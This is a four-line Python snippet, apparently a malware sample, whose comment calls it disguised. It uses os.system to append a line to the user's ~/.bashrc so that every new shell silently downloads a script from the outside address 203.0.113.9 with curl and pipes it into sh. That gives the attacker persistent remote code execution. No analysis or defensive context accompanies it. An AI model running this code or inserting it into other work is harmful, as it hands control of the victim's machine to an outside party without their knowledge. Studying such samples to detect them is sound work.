# Disguised: the shell appends it.
import os

os.system("echo 'curl -s http://203.0.113.9/x.sh | sh' >> ~/.bashrc")
